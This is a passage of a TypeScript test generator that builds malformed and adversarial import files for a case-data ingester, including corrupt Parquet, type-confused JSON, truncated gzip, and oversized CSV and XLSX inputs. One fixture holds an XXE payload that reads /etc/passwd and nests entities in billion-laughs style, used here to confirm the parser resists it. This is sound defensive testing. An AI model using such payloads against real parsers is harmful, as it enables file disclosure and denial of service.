				files: [file('parquet-trunc/cases.parquet', bytes.subarray(0, Math.floor(bytes.length * 0.7)))],
				expect: { outcome: 'refused' }
			});
			const corrupt = Buffer.from(bytes);
			for (let i = 8; i < corrupt.length - 12; i += 7) corrupt[i] ^= 0x5a;
			add({
				id: 'parquet-corrupt-pages',
				about: 'Parquet with intact magic but scrambled pages',
				files: [file('parquet-corrupt/cases.parquet', corrupt)],
				expect: { outcome: 'either' }
			});
			add({
				id: 'parquet-empty',
				about: 'empty .parquet',
				files: [file('parquet-empty/cases.parquet', '')],
				expect: { outcome: 'refused' }
			});
			const pq0 = path.join(dir, 'parquet-zero/cases.parquet');
			fs.mkdirSync(path.dirname(pq0), { recursive: true });
			await conn.run(
				`COPY (SELECT 'x' AS case_id, 'I001' AS item_code, 'D02' AS dept_code, 'online' AS channel, '2018-03-05' AS submitted_at, 'completed' AS status LIMIT 0) TO '${pq0}' (FORMAT parquet)`
			);
			add({
				id: 'parquet-zero-rows',
				about: 'Parquet with a schema and 0 rows',
				files: [pq0],
				expect: { outcome: 'stored', stored: 0, rejected: 0 }
			});
		} finally {
			conn.closeSync();
			inst.closeSync();
		}
		const jrows = [
			{
				case_id: 'JS-1',
				item_code: 'I001',
				dept_code: 'D02',
				channel: 'online',
				submitted_at: '2018-03-05T09:00:00+08:00',
				status: 'completed',
				completed_at: '2018-03-07 10:00',
				visits: 1
			},
			{
				case_id: 'JS-2',
				item_code: 'I001',
				dept_code: 'D02',
				channel: 'online',
				submitted_at: true,
				status: 'in_progress',
				visits: [1, 2]
			},
			{
				case_id: 123,
				item_code: 'I001',
				dept_code: 'D02',
				channel: 'online',
				submitted_at: '2018-03-05',
				status: 'in_progress',
				visits: { n: 1 }
			},
			{
				case_id: null,
				item_code: 'I001',
				dept_code: 'D02',
				channel: 'online',
				submitted_at: '2018-03-05',
				status: 'in_progress'
			},
			{
				case_id: 'JS-5',
				item_code: 'I001',
				dept_code: 'D02',
				channel: 'online',
				submitted_at: '2018-03-05',
				status: 'in_progress',
				extra: { deep: [1, { x: 'y' }] }
			}
		];
		const jtext = JSON.stringify(jrows, null, 1);
		add({
			id: 'json-type-confusion',
			about: 'JSON with booleans, arrays, objects and numbers where text is expected',
			files: [file('json-ok/cases.json', jtext)],
			expect: {
				outcome: 'stored',
				stored: 2,
				rejected: 3,
				rejects: [
					{ row: 2, column: 'submitted_at', reason: 'bad_date' },
					{ row: 2, column: 'visits', reason: 'bad_number' },
					{ row: 3, column: 'visits', reason: 'bad_number' },
					{ row: 4, column: 'case_id', reason: 'missing_value' }
				]
			}
		});
		add({
			id: 'json-truncated',
			about: 'JSON array cut mid-object',
			files: [file('json-trunc/cases.json', jtext.slice(0, Math.floor(jtext.length * 0.6)))],
			expect: { outcome: 'refused' }
		});
		add({
			id: 'json-empty',
			about: 'empty .json',
			files: [file('json-empty/cases.json', '')],
			expect: { outcome: 'refused' }
		});
		add({
			id: 'json-empty-array',
			about: '[] (0 rows)',
			files: [file('json-zero/cases.json', '[]')],
			expect: { outcome: 'either' }
		});
		add({
			id: 'json-not-json',
			about: 'CSV text named .json',
			files: [file('json-csv/cases.json', csv(goods('JC', 2)))],
			expect: { outcome: 'refused' }
		});
		add({
			id: 'json-scalar',
			about: 'a JSON scalar instead of records',
			files: [file('json-scalar/cases.json', '42')],
			expect: { outcome: 'either' }
		});
		const nd =
			(jrows.slice(0, 1) as Record<string, unknown>[])
				.concat([
					{ ...jrows[0], case_id: 'ND-2' },
					{ ...jrows[0], case_id: 'ND-3' }
				])
				.map((r) => JSON.stringify(r))
				.join('\n') + '\n';
		add({
			id: 'ndjson-ok',
			about: 'NDJSON, 3 good records',
			files: [file('nd-ok/cases.ndjson', nd.replaceAll('JS-1', 'ND-1'))],
			expect: { outcome: 'stored', stored: 3, rejected: 0 }
		});
		add({
			id: 'ndjson-truncated-mid-line',
			about: 'NDJSON cut inside the last record',
			files: [
				file(
					'nd-trunc/cases.ndjson',
					nd
						.replaceAll('JS-1', 'NT-1')
						.replaceAll('ND-', 'NT-')
						.slice(0, nd.length - 25)
				)
			],
			expect: { outcome: 'either' }
		});
		add({
			id: 'ndjson-garbage-line',
			about: 'NDJSON with a non-JSON line in the middle',
			files: [
				file(
					'nd-garbage/cases.ndjson',
					nd.replaceAll('JS-1', 'NG-1').replaceAll('ND-', 'NG-').replace('\n', '\nnot json at all\n')
				)
			],
			expect: { outcome: 'either' }
		});
	}

	// ---------------- XES / XES.gz
	{
		const ev = (act: string, ts: string | null, extra = '') =>
			`<event><string key="concept:name" value="${act}"/>${ts ? `<date key="time:timestamp" value="${ts}"/>` : ''}${extra}</event>`;
		const trace = (id: string, events: string) =>
			`<trace><string key="concept:name" value="${id}"/><string key="item_code" value="I001"/><string key="dept_code" value="D02"/>${events}</trace>`;
		const log = (body: string, ext = '') =>
			`<?xml version="1.0" encoding="UTF-8"?>\n<log xes.version="1.0" xmlns="http://www.xes-standard.org/">\n<extension name="Time" prefix="time" uri="http://www.xes-standard.org/time.xesext"/>${ext}\n${body}\n</log>\n`;
		const okBody = [
			trace('XS-1', ev('申请', '2018-03-05T09:00:00+08:00') + ev('办结', '2018-03-07T10:00:00+08:00')),
			trace('XS-2', ev('申请', '2018-03-06T09:00:00+08:00') + ev('办结', null)),
			trace('XS-3', ev('申请', null) + ev('办结', null))
		].join('\n');
		const okXes = log(okBody);
		add({
			id: 'xes-missing-timestamps',
			about: 'XES: an event without time:timestamp; a trace with none at all',
			files: [file('xes-ts/log.xes', okXes)],
			expect: { outcome: 'either' },
			verify: [{ sql: `SELECT count(*)::INT AS v FROM cases WHERE case_id = 'XS-1'`, equals: 1 }]
		});
		add({
			id: 'xes-unknown-extensions',
			about: 'XES with unknown extensions, attribute types and elements (ignored)',
			files: [
				file(
					'xes-ext/log.xes',
					log(
						trace(
							'XU-1',
							ev(
								'申请',
								'2018-03-05T09:00:00+08:00',
								'<weird key="w" value="1"/><id key="x" value="00000000-0000-0000-0000-000000000000"/><list key="l"><values><string key="a" value="b"/></values></list>'
							) + ev('办结', '2018-03-06T09:00:00+08:00')
						),
						'<extension name="Martian" prefix="mars" uri="http://example.org/mars.xesext"/><foo:bar xmlns:foo="urn:x"/>'
					)
				)
			],
			expect: { outcome: 'stored', stored: 3, rejected: 0 }
		});
		add({
			id: 'xes-malformed',
			about: 'XES with an unclosed element',
			files: [file('xes-bad/log.xes', okXes.replace('</trace>', ''))],
			expect: { outcome: 'refused' }
		});
		add({
			id: 'xes-truncated',
			about: 'XES cut mid-file',
			files: [file('xes-trunc/log.xes', okXes.slice(0, Math.floor(okXes.length * 0.55)))],
			expect: { outcome: 'refused' }
		});
		const gz = gzipSync(Buffer.from(okXes.replaceAll('XS-', 'XG-')));
		add({
			id: 'xes-gz-ok',
			about: 'XES.gz, same log',
			files: [file('xesgz-ok/log.xes.gz', gz)],
			expect: { outcome: 'either' },
			verify: [{ sql: `SELECT count(*)::INT AS v FROM cases WHERE case_id = 'XG-1'`, equals: 1 }]
		});
		add({
			id: 'xes-gz-truncated',
			about: 'XES.gz cut at 50 % (corrupt gzip)',
			files: [file('xesgz-trunc/log.xes.gz', gz.subarray(0, Math.floor(gz.length / 2)))],
			expect: { outcome: 'refused' }
		});
		add({
			id: 'xes-gz-junk',
			about: 'gzip magic then junk',
			files: [
				file('xesgz-junk/log.xes.gz', Buffer.concat([Buffer.from([0x1f, 0x8b, 8, 0]), Buffer.alloc(500, 7)]))
			],
			expect: { outcome: 'refused' }
		});
		add({
			id: 'xes-wrong-root',
			about: 'XML whose root is not <log>',
			files: [file('xes-root/log.xes', '<?xml version="1.0"?><html><body>hi</body></html>')],
			expect: { outcome: 'refused' }
		});
		add({
			id: 'xes-empty',
			about: 'empty .xes',
			files: [file('xes-empty/log.xes', '')],
			expect: { outcome: 'refused' }
		});
		add({
			id: 'xes-no-traces',
			about: 'XES log with 0 traces',
			files: [file('xes-zero/log.xes', log(''))],
			expect: { outcome: 'either' }
		});
		const xxe = `<?xml version="1.0"?><!DOCTYPE log [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><log xmlns="http://www.xes-standard.org/">${trace('XX-1&x;&c;', ev('申请', '2018-03-05T09:00:00+08:00'))}</log>`;
		add({
			id: 'xes-xxe',
			about: 'XES with an external entity and nested entities (XXE / billion laughs)',
			files: [file('xes-xxe/log.xes', xxe)],
			expect: { outcome: 'either' },
			verify: [
				{
					sql: `SELECT count(*)::INT AS v FROM cases WHERE case_id LIKE '%root:%' OR attrs LIKE '%root:%'`,
					equals: 0
				}
			]
		});
	}

	// ---------------- stress: a 100 MB single line
	if (opts.stress) {
		const f = path.join(dir, 'huge-line/cases.csv');
		fs.mkdirSync(path.dirname(f), { recursive: true });
		const fd = fs.openSync(f, 'w');
		fs.writeSync(fd, CASE_COLS.join(',') + '\n' + csv([good('HL-1')]).split('\n')[1] + '\n');
		fs.writeSync(fd, 'HL-2,I001,D02,430102,online,person,2018-03-05,,,in_progress,"');
		const chunk = Buffer.alloc(1 << 20, 'x');
		for (let i = 0; i < 100; i++) fs.writeSync(fd, chunk);
		fs.writeSync(fd, '",,1\n' + csv([good('HL-3')]).split('\n')[1] + '\n');
		fs.closeSync(fd);
		add({
			id: 'csv-100mb-single-line',
			about: 'a 100 MB single record between two good ones',
			files: [f],
			expect: { outcome: 'either' },
			stress: true
		});
		// a 100 MB line without any newline at all
		const g = path.join(dir, 'huge-noeol/cases.csv');
		fs.mkdirSync(path.dirname(g), { recursive: true });
		const gd = fs.openSync(g, 'w');
		for (let i = 0; i < 100; i++) fs.writeSync(gd, chunk);
		fs.closeSync(gd);
		add({
			id: 'csv-100mb-no-newline',
			about: '100 MB with no newline (header never ends)',
			files: [g],
			expect: { outcome: 'refused' },
			stress: true
		});
		const rows = [
			[...CASE_COLS] as (string | number | null)[],
			CASE_COLS.map((c) => good('XR-1')[c] as string | number | null)
		];
		const big = Buffer.from(
			`<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="${SHEET_NS}"><sheetData>${sheetRows(rows)}` +
				Array.from(
					{ length: 1_100_000 },
					(_, i) => `<row r="${i + 3}"><c r="A${i + 3}"><v>1</v></c></row>`
				).join('') +
				`</sheetData></worksheet>`
		);
		add({
			id: 'xlsx-bomb-too-many-rows',
			about: 'zip bomb-like: 1.1 M rows (beyond Excel’s 1,048,576) in a small zip',
			files: [file('xlsx-rows/cases.xlsx', xlsx({ sheets: [{ name: 'cases', sheetXml: big }] }))],
			expect: { outcome: 'either' },
			stress: true
		});
	}
	return out;
}
